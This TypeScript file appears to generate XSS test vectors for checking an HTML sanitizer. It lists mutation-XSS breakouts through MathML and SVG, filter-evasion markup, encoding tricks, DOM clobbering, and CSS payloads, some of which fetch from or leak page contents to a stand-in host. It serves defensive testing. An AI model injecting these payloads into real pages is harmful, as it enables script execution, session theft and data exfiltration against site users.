/** Elements whose content is not parsed as HTML, or not everywhere. */
const raw = "style script title textarea xmp noscript noembed noframes iframe plaintext template listing option".split(" ");
/** Where HTML begins again inside of MathML and SVG. */
const islands = [
  "<math><mtext>",
  "<math><mi>",
  "<math><ms>",
  "<math><annotation-xml encoding=text/html>",
  "<math><mtext><table><mglyph>",
  "<math><mtext></form><form><mglyph>",
  "<math><mi><malignmark>",
  "<svg><title>",
  "<svg><desc>",
  "<svg><foreignObject>",
  "<svg></p>",
  "<svg><p>",
  "<svg><style>",
  "<math><annotation-xml><svg><foreignObject>",
];
const containers = "p li h2 a strong u ol s em table select".split(" ");

/** What one parser takes for text or an attribute and another for an element: filters that parse otherwise than browsers fail here. */
function mutationVectors(js: string): string[] {
  const image = `<img src=x onerror=${js}>`;
  const breakouts: Array<(name: string) => string> = [
    (name) => `<${name}><a id="</${name}>${image}">x</a></${name}>`,
    (name) => `<${name}><!--</${name}>${image}--></${name}>`,
    (name) => `<${name}><p title="</${name}>${image.replace(/</g, "&lt;").replace(/>/g, "&gt;")}"></${name}>`,
    (name) => `<${name}><![CDATA[</${name}>${image}]]></${name}>`,
  ];
  return [
    // All that follows a plaintext is text: six of them tell as much as sixty.
    ...islands.flatMap((island) =>
      raw.filter((name) => name !== "plaintext").flatMap((name) => breakouts.map((breakout) => `${island}${breakout(name)}`)),
    ),
    ...raw.flatMap((name) => breakouts.map((breakout) => breakout(name))),
    ...containers.flatMap((name) => [
      `<${name}>${image}</${name}>`,
      `<${name}><${name}>${image}`,
      `<${name}><svg><${name}><style><a id="</style>${image}">`,
      `<form><${name}><form>${image}`,
      `<table><${name}><tr><td>${image}</table>`,
      `<select><${name}><script>${js}</script></select>`,
      `<template><${name}>${image}</${name}></template>`,
      `<${name}><template shadowrootmode=open>${image}</template></${name}>`,
      `<${name} title="&quot;><img src=x onerror=${js}>">x</${name}>`,
      `<${name} href="x&quot; onclick=&quot;${js}">x</${name}>`,
      `<${name} style="text-align:left&quot; onclick=&quot;${js}">x</${name}>`,
      `<${name} data-indent='1" onclick="${js}'>x</${name}>`,
      `<${name}>&lt;img src=x onerror=${js}&gt;</${name}>`,
      `<${name}>&amp;lt;img src=x onerror=${js}&amp;gt;</${name}>`,
    ]),
  ];
}

/** Markup that is broken on purpose, in the manner of the filter evasion cheat sheets. */
function brokenVectors(js: string): string[] {
  const image = `<img src=x onerror=${js}>`;
  const script = `<script>${js}</script>`;
  return [
    script,
    script.toUpperCase().replace(js.toUpperCase(), js),
    `<ScRiPt>${js}</sCrIpT >`,
    `<<script>${js}//<</script>`,
    `<scr<script>ipt>${js}</scr</script>ipt>`,
    `<script/x y=z>${js}</script/>`,
    `<script\n>${js}</script\n>`,
    `<script x>${js}</script y>`,
    `<script>${js}`,
    `<script src=//fetched.example/a.js`,
    `<script src=//fetched.example/a.js?<b>`,
    `<script a=">" src="//fetched.example/a.js"></script>`,
    `<script ="blah" src='//fetched.example/a.js'></script>`,
    `<script a=\`>\` src="//fetched.example/a.js"></script>`,
    `"><script>${js}</script>`,
    `'><script>${js}</script>`,
    `--><script>${js}</script>`,
    `--!><script>${js}</script><!--`,
    `]]><script>${js}</script>`,
    `</p></div></body></html><script>${js}</script>`,
    `</title></textarea></style></noscript></xmp></template></iframe>${script}`,
    `<img """><script>${js}</script>">`,
    `<img src=x onerror="${js}"//`,
    `<img src=x onerror=${js} <b>`,
    `<img src="x" onerror="${js}" a='`,
    `<img/src=x/onerror=${js}>`,
    `<img\u000csrc=x\u000conerror=${js}>`,
    `<img src=x:x onerror\n=${js}>`,
    `<img src=\`x\` onerror=\`${js}\`>`,
    `<img src='x'onerror='${js}'>`,
    `<image/onerror=${js} src=x>`,
    `<IMG SRC=x ONERROR=${js}>`,
    `< img src=x onerror=${js}>`,
    `<\u0131mg src=x onerror=${js}>`,
    `<%00img src=x onerror=${js}>`,
    `</img src=x onerror=${js}>`,
    `<!img src=x onerror=${js}>`,
    `<?img src=x onerror=${js}>`,
    `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></x>`,
    `<xml id=x><x><c><![CDATA[<img src="javas]]><![CDATA[cript:${js}">]]></c></x></xml><span datasrc=#x datafld=c dataformatas=html></span>`,
    `<!--[if gte IE 4]>${script}<![endif]-->`,
    `<!--[if true]>${image}<![endif]-->`,
    `<![if true]>${image}<![endif]>`,
    `<!-->${image}-->`,
    `<!--->${image}-->`,
    `<!-- --!>${image}-->`,
    `<!-- <!-- -->${image}`,
    `<!doctype html>${image}`,
    `<!DOCTYPE x [<!ENTITY y "${js}">]><x>&y;</x>`,
    `<!--#exec cmd="x"-->${image}`,
    `\uff1cscript\uff1e${js}\uff1c/script\uff1e`,
    `%3Cscript%3E${js}%3C/script%3E`,
    `%C0%BCscript>${js}</script>`,
    `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
    `<meta charset=utf-7>+ADw-script+AD4-${js}+ADw-/script+AD4-`,
    `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
    `\\x3cscript\\x3e${js}\\x3c/script\\x3e`,
    `&lt;script&gt;${js}&lt;/script&gt;`,
    `&#60;script&#62;${js}&#60;/script&#62;`,
    `&#x3c;script&#x3e;${js}&#x3c;/script&#x3e;`,
    `&ltscript&gt${js}&lt/script&gt`,
    `{{constructor.constructor('${js}')()}}`,
    `\${${js}}<%= ${js} %>#{${js}}[[${js}]]`,
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${js}//'>`,
    `';${js}//";${js}//\`;${js}//--></script>">'>${script}`,
    `<div id="x">x</div><iframe srcdoc="${script.replace(/</g, "&lt;")}"></iframe>`,
    `<iframe srcdoc='${image}'></iframe>`,
    `<iframe/onload=${js}>`,
    `<svg/onload=${js}>`,
    `<svg><script>${js.replace("(", "&#40;")}</script></svg>`,
    `<svg><script/href="data:,${js}"/></svg>`,
    `<svg><script xlink:href="data:,${js}"></script></svg>`,
    `<svg><![CDATA[><img src="x" onerror=${js}>]]></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${js}</handler></svg>`,
    `<svg><foreignObject><body onload=${js}></foreignObject></svg>`,
    `<svg><animate xlink:href=#y attributeName=href values="x;javascript:${js}" /><a id=y><text y=9>x</text></a></svg>`,
    `<marquee loop=1 width=0 onfinish=${js} onstart=${js}>x</marquee>`,
    `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=${js}>x</p>`,
    `<button commandfor=d command=show-modal>x</button><dialog id=d oncommand=${js}>x</dialog>`,
    `<input type=hidden oncontentvisibilityautostatechange=${js} style=content-visibility:auto>`,
    `<a onclick=${js} accesskey=x href=#>x</a>`,
    `<link rel=canonical accesskey=x onclick=${js}>`,
    `<object type=text/x-scriptlet data=//fetched.example/a.html></object>`,
    `<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:${js}></object>`,
    `<div contenteditable oninput=${js}>x</div><div datasrc=#x onactivate=${js}>x</div>`,
    `<a href=https://ok.example/ onclick=${js}//>x</a>`,
    `<a href="https://ok.example/" target=_blank rel=opener>x</a>`,
    `<p id=cookie name=body class=prose data-sheet=x data-pm-slice="0 0 []">x</p><form id=getElementById><input name=innerHTML></form>`,
    `<a id=defaultView href=x:y></a><img name=currentScript><form name=documentElement><output name=baseURI></form>`,
    `<img src='//fetched.example/?x=`,
    `<a href="//fetched.example/?x=`,
    `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">${script}`,
    `<meta http-equiv=Set-Cookie content="x=y">`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["/hostile-fetch"]}]}</script>`,
    `<script type=importmap>{"imports":{"x":"data:,${js}"}}</script><script type=module>import "x"</script>`,
  ];
}

/** Styles that once ran code, fetch, or lay something over the page. */
function styleVectors(js: string): string[] {
  const styles = [
    `width:expression(${js})`,
    `w\\69 dth:exp/**/ression(${js})`,
    `xss:expr/*x*/ession(${js})`,
    `behavior:url(//fetched.example/x.htc)`,
    `-moz-binding:url(//fetched.example/x.xml#x)`,
    `background:url(javascript:${js})`,
    `background:\\75rl(//fetched.example/x)`,
    `background-image:image-set("//fetched.example/x" 1x)`,
    `background:u\\rl('java\\script:${js}')`,
    `list-style:url(//fetched.example/x)`,
    `cursor:url(//fetched.example/x),auto`,
    `content:url(//fetched.example/x)`,
    `border-image:url(//fetched.example/x)`,
    `mask:url(//fetched.example/x#m)`,
    `filter:url(//fetched.example/x#f)`,
    `position:fixed;inset:0;z-index:9999;background:white`,
    `animation-name:x;animation-duration:1s`,
    `--x:url(//fetched.example/x);background:var(--x)`,
    `-o-link:'javascript:${js}';-o-link-source:current`,
    `text-align:center;};background:url(//fetched.example/x)`,
    `text-align:expression(${js})`,
    `text-align:center url(//fetched.example/x)`,
    `text-align:/*x*/center;color:red`,
    `text\\-align:center;width:100vw`,
  ];
  return styles.flatMap((style) => [
    `<p style="${style.replace(/"/g, "&quot;")}">x</p>`,
    `<li style='text-align:left;${style.replace(/'/g, "&#39;")}'>x</li>`,
    `<a style="${style.replace(/"/g, "&quot;")}" href="https://ok.example/">x</a>`,
    `<style>p,a{${style}}</style>`,
    `<h2 style="text-align:left" style="${style.replace(/"/g, "&quot;")}">x</h2>`,
  ]);
}

/** Vectors that live on how HTML and CSS are parsed. */
export function parserVectors(js: string): string[] {
  return [...mutationVectors(js), ...brokenVectors(js), ...styleVectors(js)];
}
